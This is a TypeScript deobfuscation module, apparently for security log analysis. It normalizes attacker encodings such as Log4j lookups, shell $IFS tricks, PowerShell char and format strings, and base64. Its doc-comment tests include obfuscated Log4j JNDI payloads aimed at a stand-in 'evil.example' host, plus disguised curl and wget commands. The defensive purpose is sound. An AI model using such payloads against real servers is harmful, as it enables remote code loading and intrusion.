/**
 * What attackers and logs wrap commands and URLs in: percent encoding, escapes,
 * Log4j's lookups, a shell's blanks, base64. Each is undone in one pass over the
 * text, and a few times at the most.
 *
 * @module
 */

/**
 * A text without percent encoding, also where a part of it is broken, and
 * without the escapes of JSON, C and XML.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * assertEquals(withoutEscapes("a%20b%2520c%zz"), "a b c%zz");
 * assertEquals(withoutEscapes("\\x24\\u007bjndi"), "${jndi");
 * ```
 */
export function withoutEscapes(text: string): string {
  let plain = text;
  for (
    let times = 0;
    times < MAX_TIMES && /%[\da-f]{2}/i.test(plain);
    times++
  ) {
    plain = plain.replace(/%([\da-f]{2})/gi, fromHex);
  }
  return plain.includes("\\")
    ? plain.replace(/\\(?:x|u00)([\da-f]{2})/gi, fromHex)
    : plain;
}

/** What was encoded more often is no web server's work. */
const MAX_TIMES = 3;

function fromHex(_: string, hex: string): string {
  return String.fromCharCode(parseInt(hex, 16));
}

/**
 * A text with Log4j's lookups replaced by what they give: `${lower:j}` is `j`,
 * `${x:y:-z}` is `z`, and what only the server knows is nothing. What is left of
 * `${jndi:…}` is its inside.
 *
 * @see https://logging.apache.org/log4j/2.x/manual/lookups.html
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * assertEquals(
 *   withoutLookups("${${lower:j}ndi:ldap://${hostName}.evil.example/a}"),
 *   " jndi:ldap://evil.example/a ",
 * );
 * assertEquals(withoutLookups("${${::-j}ndi:dns:evil.example}"), " jndi:dns://evil.example ");
 * ```
 */
export function withoutLookups(text: string): string {
  if (!text.includes("${")) return text;
  // What stands before each lookup that is open, and what is in it so far.
  const outer: string[] = [];
  let inner = "";
  for (const part of text.split(/(\$\{|\})/)) {
    if (part === "${") {
      if (outer.length === MAX_OPEN) break;
      outer.push(inner);
      inner = "";
    } else if (part === "}" && outer.length > 0) {
      inner = `${outer.pop()}${valueOfLookup(inner)}`;
    } else inner += part;
  }
  // A log may be cut off.
  return [...outer, inner].join(" ")
    .replace(/\bjndi:([a-z]{2,8}):(?!\/\/)\/?/gi, "jndi:$1://")
    .replace(/(:\/\/)(?:(?:localhost|127\.0\.0\.1)#)?[.-]*/gi, "$1");
}

/** Deeper lookups are there to take time. */
const MAX_OPEN = 100;

function valueOfLookup(inside: string): string {
  const start = inside.slice(0, 7).toLowerCase();
  // A shell's blank.
  if (inside === "IFS") return " ";
  if (start.startsWith("jndi:")) return ` ${inside} `;
  if (/^(?:lower|upper):/.test(start)) return inside.slice(6);
  if (start === "base64:") return decodeBase64(inside.slice(7)) ?? "";
  if (/^date:'/.test(start)) return inside.slice(6).replaceAll("'", "");
  const fallback = inside.lastIndexOf(":-");
  if (fallback !== -1) return inside.slice(fallback + 2);
  // An expression that calls something, of OGNL and its like, is no lookup.
  return inside.includes("(") ? ` ${inside} ` : "";
}

/**
 * What a shell makes of a command's text before it runs it: blanks in place of
 * `$IFS`, `{a,b}` apart, without the marks that only hide a word.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * assertEquals(withoutShell("wget${IFS}a.example"), "wget a.example");
 * assertEquals(withoutShell("{curl,a.example}"), " curl a.example ");
 * assertEquals(withoutShell("c^url 'ht'+'tp'"), "curl 'http'");
 * assertEquals(withoutShell(`c'u'r"l" h\\ttp://x`), "curl http://x");
 * ```
 */
export function withoutShell(text: string): string {
  return text
    .replace(/\$\{IFS\}|\$IFS(?:\$\d)?/g, " ")
    .replace(
      /\{([\w./-]{1,40}),([^{}\s]{1,2000})\}/g,
      (_, program, rest) => ` ${program} ${rest.replaceAll(",", " ")} `,
    )
    .replace(/\^(?=[\w"'/:.\\-])/g, "")
    .replace(/`(?=\w)(?<=\w`)/g, "")
    .replace(/(?<=\w)(?:""|''){1,8}(?=\w)/g, "")
    .replace(/(?<=\w)(["'])(\w{1,40})\1|(["'])(\w{1,40})\3(?=\w)/g, "$2$4")
    .replace(/["']\s{0,9}\+\s{0,9}["']/g, "")
    .replace(ESCAPED_SCHEME, (scheme) => scheme.replaceAll("\\", ""));
}

/** h\t\tp\:\/\/ */
const ESCAPED_SCHEME = /(?<![a-z\\])\\?h\\?t\\?t\\?p\\?s?\\?:(?:\\?\/){2}/gi;

/**
 * A command's text with what it makes of its strings before it runs them: letters
 * by their numbers (`\\x68`, `\\150`, `[char]104`, `fromCharCode(104,…)`),
 * PowerShell's `-f`, `-join` and `Replace()`.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * assertEquals(withoutStrings("printf '\\x68\\x74\\164p'"), "printf 'http'");
 * assertEquals(withoutStrings("[char]104+[char]0x69"), "'h'+'i'");
 * assertEquals(withoutStrings(`"{1}{0}" -f 'b','a'`), "'ab'");
 * assertEquals(withoutStrings("'hxxp'.Replace('xx','tt')"), "'http'");
 * ```
 */
export function withoutStrings(text: string): string {
  let plain = text;
  if (plain.includes("\\")) {
    plain = plain.replace(
      /(?:\\{1,2}(?:x[\da-f]{2}|0?[01][0-7]{2})){3,}/gi,
      (letters) =>
        letters.replace(
          /\\+(?:x(..)|0?([01]..))/gi,
          (_, hex, octal) =>
            String.fromCharCode(parseInt(hex ?? octal, hex ? 16 : 8)),
        ),
    );
  }
  if (/\[char\]/i.test(plain)) {
    plain = plain.replace(
      /\[char\]\s{0,3}\(?(0x[\da-f]{1,4}|\d{1,5})\)?/gi,
      (_, number) => `'${String.fromCharCode(Number(number))}'`,
    );
  }
  if (/char/i.test(plain)) {
    // [char[]](104,105,…), String.fromCharCode(104,105,…)
    plain = plain.replace(
      /(?:\d{1,3}\s{0,3},\s{0,3}){7,4000}\d{1,3}/g,
      (numbers) =>
        `'${
          numbers.split(",").map((one) => String.fromCharCode(Number(one)))
            .join("")
        }'`,
    );
  }
  if (/-join\s{0,9}(?:''|"")/i.test(plain)) {
    plain = plain.replace(/(["'])\s{0,9},\s{0,9}\1/g, "");
  }
  if (/["']\)?\s{0,9}-f\b/i.test(plain)) {
    plain = plain.replace(FORMATTED, (_, format: string, list: string) => {
      const values = [...list.matchAll(/["']([^"']*)["']/g)]
        .map(([, value = ""]) => value);
      const filled = format.replace(
        /\{(\d{1,2})\}/g,
        (_, n) => values[Number(n)] ?? "",
      );
      return `'${filled.slice(0, MAX_FILLED)}'`;
    });
  }
  for (let times = 0; times < MAX_TIMES && REPLACED.test(plain); times++) {
    plain = plain.replace(
      REPLACED,
      (_, string: string, from: string, to: string) =>
        `'${string.replaceAll(from, to)}'`,
    );
  }
  return plain;
}

/** A format may name a value as often as there is room. */
const MAX_FILLED = 2000;

const FORMATTED =
  /["']((?:[^"'{}]|\{\d{1,2}\}){2,500})["']\)?\s{0,9}-f\s{0,9}((?:["'][^"']{0,500}["']\s{0,9},?\s{0,9}){1,20})/gi;
const REPLACED =
  /'([^']{1,2000})'(?:\.Replace\(\s?|\s{1,9}-c?replace\s{1,9})'([^']{1,50})'\s?,\s?'([^']{0,50})'\)?/i;

/**
 * The text that hexadecimal digits stand for; `undefined` if they stand for no
 * text.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * assertEquals(decodeHex("6375726c20612e696f"), "curl a.io");
 * assertEquals(decodeHex("0001"), undefined);
 * ```
 */
export function decodeHex(hex: string): string | undefined {
  const digits = hex.slice(0, MAX_BASE64);
  const whole = digits.slice(0, digits.length - digits.length % 2);
  const text = new TextDecoder().decode(Uint8Array.fromHex(whole));
  return NO_TEXT.test(text) ? undefined : text;
}

/**
 * The text that base64 stands for, in UTF-16 as PowerShell has it or in UTF-8;
 * `undefined` if it stands for no text.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * assertEquals(decodeBase64("Y3VybCBhLmV4YW1wbGU="), "curl a.example");
 * assertEquals(decodeBase64("aQB3AHIA"), "iwr");
 * assertEquals(decodeBase64("//8="), undefined);
 * ```
 */
export function decodeBase64(base64: string): string | undefined {
  const digits = base64.slice(0, MAX_BASE64).replace(/[^A-Za-z\d+/]/g, "");
  const whole = digits.slice(
    0,
    digits.length - (digits.length % 4 === 1 ? 1 : 0),
  );
  const bytes = Uint8Array.fromBase64(whole);
  const isUtf16 = bytes.length > 1 && bytes.length % 2 === 0 &&
    bytes.slice(0, 40).every((byte, n) => n % 2 === 0 || byte === 0);
  const text = new TextDecoder(isUtf16 ? "utf-16le" : "utf-8").decode(bytes);
  return NO_TEXT.test(text) ? undefined : text;
}

/** Windows takes no longer command line. */
const MAX_BASE64 = 65_536;

// deno-lint-ignore no-control-regex
const NO_TEXT = /[\0-\x08\x0e-\x1a\x1c-\x1f\ufffd]/;
